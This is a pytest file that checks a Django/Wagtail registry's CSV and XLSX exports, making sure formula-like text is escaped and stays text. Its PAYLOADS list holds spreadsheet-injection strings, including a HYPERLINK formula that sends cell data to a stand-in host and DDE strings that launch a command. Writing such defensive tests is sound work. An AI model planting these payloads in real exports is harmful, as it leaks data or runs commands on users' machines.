"""Issue 12.3: text that starts like a formula is text in every export (the registry's
CSV and XLSX, Wagtail's listing and report exports), shown as typed."""

from __future__ import annotations

import csv
import io
import zipfile

import pytest
from django.urls import reverse
from openpyxl import Workbook, load_workbook

from accounts_registry.exporting import export_csv, export_xlsx
from accounts_registry.importing import import_csv
from accounts_registry.models import Account
from cms import spreadsheets
from tests.accounts_registry.conftest import login, make_user

PAYLOADS = [
    '=HYPERLINK("https://evil.example/?d="&A2,"Открыть")',
    "=cmd|' /C calc'!A0",
    "+7 (3842) 00-00-00 =1+1",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    " =1+1",
    "＝1+1",
]
HARMLESS = ["Минсоц Кузбасса", "-123456", "+7", "-5.5", "", "a=b", "Иванов И. И."]


@pytest.mark.parametrize("value", PAYLOADS)
def test_formula_like_text_is_neutralised_and_read_back(value):
    assert spreadsheets.is_formula_like(value)
    cell = spreadsheets.csv_cell(value)
    assert cell == "'" + value
    assert spreadsheets.csv_value(cell) == value


@pytest.mark.parametrize("value", HARMLESS)
def test_plain_text_and_numbers_are_left_alone(value):
    assert not spreadsheets.is_formula_like(value)
    assert spreadsheets.csv_cell(value) == value
    assert spreadsheets.csv_value(value) == value


def test_non_text_values_pass_through():
    assert spreadsheets.csv_row([5, None, -3.5]) == [5, None, -3.5]


def xlsx_formulas(content: bytes) -> list[str]:
    """Every formula element in the workbook's sheets."""
    with zipfile.ZipFile(io.BytesIO(content)) as book:
        sheets = [n for n in book.namelist() if n.startswith("xl/worksheets/")]
        return [n for n in sheets if b"<f>" in book.read(n) or b"<f " in book.read(n)]


def hostile_account(**extra) -> Account:
    return Account.objects.create(
        network="vk",
        name=PAYLOADS[0],
        external_id="-123456",
        responsible=PAYLOADS[1],
        purpose=PAYLOADS[4],
        notes="-2+3",
        status=Account.Status.ACTIVE,
        **extra,
    )


@pytest.mark.django_db
def test_registry_csv_neutralises_cells_and_reimports_the_same_text():
    account = hostile_account()
    content = export_csv(Account.objects.all())
    rows = list(csv.DictReader(io.StringIO(content.decode("utf-8-sig"))))
    assert rows[0]["name"] == "'" + PAYLOADS[0]
    assert rows[0]["responsible"] == "'" + PAYLOADS[1]
    assert rows[0]["purpose"] == "'" + PAYLOADS[4]
    assert rows[0]["external_id"] == "-123456"  # a number stays a number
    for row in rows:
        for value in row.values():
            assert not spreadsheets.is_formula_like(value), value

    Account.objects.all().delete()
    report = import_csv(content, report_obligations=False)
    assert not report.errors, report.errors
    back = Account.objects.get(external_id="-123456")
    assert back.name == account.name
    assert back.responsible == account.responsible
    assert back.purpose == account.purpose


@pytest.mark.django_db
def test_registry_xlsx_keeps_the_text_as_text():
    hostile_account()
    content = export_xlsx(Account.objects.all())
    assert xlsx_formulas(content) == []
    sheet = load_workbook(io.BytesIO(content)).active
    values = [cell for cell in sheet[2]]
    by_value = {cell.value: cell for cell in values}
    for payload in (PAYLOADS[0], PAYLOADS[1], PAYLOADS[4]):
        cell = by_value[payload]  # the visible text is what was typed
        assert cell.data_type == "s"
        assert cell.quotePrefix  # stays text when the cell is edited


@pytest.mark.django_db
@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_registry_listing_download_is_neutralised(client, django_user_model, fmt):
    from accounts_registry.conf import KEEPER_GROUP

    hostile_account()
    login(client, make_user(django_user_model, "keeper", KEEPER_GROUP))
    url = reverse("registry_account:index") + f"?export={fmt}"
    response = client.get(url)
    assert response.status_code == 200
    content = (
        b"".join(response.streaming_content)
        if response.streaming
        else (response.content)
    )
    if fmt == "csv":
        text = content.decode("utf-8-sig")
        assert "'" + PAYLOADS[0].replace('"', '""') in text
        for row in csv.reader(io.StringIO(text)):
            assert not any(spreadsheets.is_formula_like(v) for v in row), row
    else:
        assert xlsx_formulas(content) == []


def wagtail_exporter():
    """What a Wagtail listing or report exports with (its ``SpreadsheetExportMixin``)."""
    from wagtail.admin.views.mixins import SpreadsheetExportMixin

    class Export(SpreadsheetExportMixin):
        list_export = ["title", "count"]

    return Export()


def test_wagtail_exports_csv_rows_neutralised():
    exporter = wagtail_exporter()
    out = io.StringIO()
    writer = csv.DictWriter(out, fieldnames=exporter.list_export)
    exporter.write_csv_row(writer, {"title": PAYLOADS[1], "count": -3})
    assert out.getvalue().strip() == f"'{PAYLOADS[1]},-3"


def test_wagtail_exports_xlsx_cells_text_with_quote_prefix():
    exporter = wagtail_exporter()
    book = Workbook(write_only=True)
    sheet = book.create_sheet()
    cells = list(exporter.generate_xlsx_row(sheet, {"title": "@SUM(1)", "count": 1}))
    assert cells[0].value == "@SUM(1)"
    assert cells[0].data_type == "s" and cells[0].quotePrefix
    assert cells[1].value == 1 and not cells[1].quotePrefix


@pytest.mark.django_db
def test_wagtail_page_report_csv_is_neutralised(admin_client):
    """A real Wagtail report (locked pages) with a page title an editor typed."""
    from wagtail.models import Page

    root = Page.get_first_root_node()
    page = root.add_child(instance=Page(title=PAYLOADS[1], slug="x-formula"))
    page.locked = True
    page.save()
    response = admin_client.get(
        reverse("wagtailadmin_reports:locked_pages") + "?export=csv"
    )
    assert response.status_code == 200
    text = b"".join(response.streaming_content).decode()
    assert "'" + PAYLOADS[1] in text
    for row in csv.reader(io.StringIO(text)):
        assert not any(spreadsheets.is_formula_like(v) for v in row), row
